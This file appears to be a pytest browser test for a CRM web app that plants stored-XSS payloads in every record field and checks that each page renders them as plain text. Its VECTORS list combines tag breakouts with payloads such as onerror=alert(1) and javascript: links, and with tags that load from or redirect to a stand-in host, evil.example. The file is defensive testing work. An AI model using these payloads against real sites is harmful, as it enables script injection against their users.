"""Proof 7, stored XSS: what people type is shown as text on every page, judged by what Chromium makes of it."""

from __future__ import annotations

from datetime import timedelta
from itertools import product
from typing import Any

import pytest
from flask import Flask

from soconnective.accounts.models import Tenant, User
from soconnective.appointments.operations import schedule_appointment
from soconnective.contacts.operations import create_company, create_contact
from soconnective.core import clock
from soconnective.core.access import acting_as
from soconnective.core.db import db, write_transaction
from soconnective.core.tenancy import acting_in
from soconnective.deals.models import Stage
from soconnective.deals.operations import create_deal, move_deal
from soconnective.mail import enqueue_mail
from soconnective.mail.account import save_account
from soconnective.mail.markup import cleaned
from soconnective.mail.templates import create_template
from soconnective.tags.operations import create_tag
from soconnective.tasks.operations import create_task
from soconnective.timeline.operations import write_note
from soconnective.webhooks.hook_operations import create_hook
from soconnective.webhooks.operations import create_endpoint
from tests.browser.conftest import sign_in
from tests.factories.records import make_rule
from tests.test_routes import own_rules, url_of

NAME = "7 Input: stored XSS"
HEADS = ["", '">', "'>", "</title>", "</textarea>", "</option></select>", "</script>", "-->", "</svg>", "` "]
TAGS = [
    "<img data-xss src=x onerror=alert(1)>", "<svg data-xss onload=alert(1)>", "<script data-xss>alert(1)</script>",
    "<iframe data-xss srcdoc='<script>alert(1)</script>'>", "<a data-xss href=javascript:alert(1)>a</a>", "<details data-xss open ontoggle=alert(1)>",
    "<math data-xss><mi xlink:href=javascript:alert(1)>", "<body data-xss onload=alert(1)>", "<input data-xss autofocus onfocus=alert(1)>",
    "<video data-xss src=x onerror=alert(1)>", "<object data-xss data=//evil.example>", "<embed data-xss src=//evil.example>",
    "<form data-xss action=//evil.example>", "<base data-xss href=//evil.example>", "<link data-xss rel=stylesheet href=//evil.example>",
    "<meta data-xss http-equiv=refresh content=0;url=//evil.example>", "<style data-xss>*{display:none}</style>", "<button data-xss onclick=alert(1)>b</button>",
    "<p data-xss hx-get=//evil.example hx-trigger=load>", "&lt;img data-xss&gt;<x data-xss style=x:1>",
]  # fmt: skip
VECTORS = [head + tag for head, tag in product(HEADS, TAGS)]


def fill_with(app: Flask, team: Any, vectors: list[str]) -> dict[str, int]:
    """Records whose every text is a vector; ids of the last ones, by the name of the URL's argument."""
    ids: dict[str, int] = {}
    with app.app_context(), acting_in(team.id), acting_as(team.owner.actor):
        with write_transaction():
            for number, vector in enumerate(vectors):
                tag = create_tag(f"{number}{vector[:36]}")
                marked = {"tag_ids": [tag.id]}
                company = create_company(vector, about="\n".join(vectors), phone=vector[:40], **marked)
                contact = create_contact(vector[:100], "X", job_title=vector, **marked)
                db.session.flush()
                deal = create_deal(
                    vector,
                    team.stages["Lead"],
                    source=vector[:80],
                    company_id=company.id,
                    contact_ids=[contact.id],
                    **marked,
                )
                db.session.flush()
                move_deal(deal, db.session.get_one(Stage, team.stages["Lost"]), vector)
                task = create_task(vector, details="\n".join(vectors), deal_id=deal.id, contact_id=contact.id)
                start = clock.now() + timedelta(hours=number)
                meeting = schedule_appointment(
                    vector,
                    start,
                    start + timedelta(hours=1),
                    place=vector[:100],
                    details=vector,
                    deal_id=deal.id,
                )
                note = write_note("\n".join(vectors), deal_id=deal.id)
                db.session.flush()
            texts = {
                "name": vectors[-1][:120],
                "record_type": "contact",
                "subject": vectors[0][:120],
                "body": vectors[1],
            }
            template = create_template(**texts, html='<p title="{{ contact.name }}">{{ contact.name }}</p>')
            endpoint, hook = (
                create_endpoint(vectors[-1][:120], "https://x.example/hook"),
                create_hook(vectors[-1][:120])[0],
            )
            save_account(None, host="smtp.x.example", port=587, security="starttls", username=None,
                         from_address="crm@acme.example", from_name=None, hourly_cap=200)  # fmt: skip
            db.session.flush()
            mail = enqueue_mail("a@x.example", vectors[0], "", html=cleaned("".join(vectors)).html)
            db.session.flush()
            ids |= {
                "template_id": template.id,
                "endpoint_id": endpoint.id,
                "hook_id": hook.id,
                "message_id": mail.id,
            }
            db.session.get_one(Stage, team.stages["Lead"]).name = vectors[0][:40]
            db.session.get_one(Tenant, team.id).name = vectors[-1][:120]
            db.session.get_one(User, team.member.id).name = vectors[-1][:120]
            ids |= {
                "company_id": company.id, "contact_id": contact.id, "deal_id": deal.id, "record_id": deal.id, "task_id": task.id,
                "appointment_id": meeting.id, "note_id": note.id, "pipeline_id": team.pipeline_id, "stage_id": team.stages["Lead"],
                "tag_id": tag.id,
            }  # fmt: skip
        steps = [
            ("log_note", {"body": vectors[0].replace("{", "(")}),
            ("call_webhook", {"endpoint_id": endpoint.id}),
        ]
        ids["automation_id"] = make_rule("deal.created", steps, name=vectors[0][:100]).id
        with write_transaction():
            create_deal("Fires it", team.stages["Lead"])
        db.session.remove()
    return ids


MADE = "() => document.querySelectorAll('[data-xss]').length"


def found_on(app: Flask, page: Any, ids: dict[str, int]) -> tuple[int, list[str]]:
    """Look at every page; how many there were, and what a vector made on them."""
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    problems, seen = [], 0
    urls = ["/dashboard/search?q=img", "/dashboard/contacts?q=<img", '/dashboard/deals?q="><img data-xss>']
    for rule in own_rules(app):
        url = url_of(app, rule, ids)
        if (
            url
            and "GET" in rule.methods
            and app.view_functions[rule.endpoint].permission
            and rule.endpoint not in ("dashboard.pick", "automations.export")  # no pages
        ):
            urls.append(url)
    for url in urls:
        page.goto(url)
        seen += 1
        if page.evaluate(MADE):
            problems.append(f"{url}: {page.evaluate(MADE)} elements made")
    return seen, problems + [f"a dialog: {words}" for words in dialogs]


@pytest.mark.proof(NAME)
def test_what_people_type_is_shown_as_text(app: Flask, team: Any, page: Any, watch: Any, proof: Any) -> None:
    watch.allow("status of 404")
    assert len(VECTORS) >= 200
    ids = fill_with(app, team, VECTORS if proof.is_long else VECTORS[::11])
    sign_in(page, team.owner.email)
    seen, problems = found_on(app, page, ids)
    proof.cases, proof.found = (len(VECTORS) if proof.is_long else len(VECTORS[::11])) * seen, len(problems)
    assert not problems, "\n".join(problems)
    assert seen > 40


@pytest.mark.control(NAME)
def test_a_page_that_does_not_escape_is_found(app: Flask, team: Any, page: Any, watch: Any) -> None:
    watch.allow("")  # everything that then goes wrong is what was planted
    app.jinja_env.autoescape = False
    app.jinja_env.cache.clear()  # a template is compiled with or without it
    ids = fill_with(app, team, VECTORS[:3])
    sign_in(page, team.owner.email)
    page.goto(f"/dashboard/deals/{ids['deal_id']}")
    assert page.evaluate(MADE)
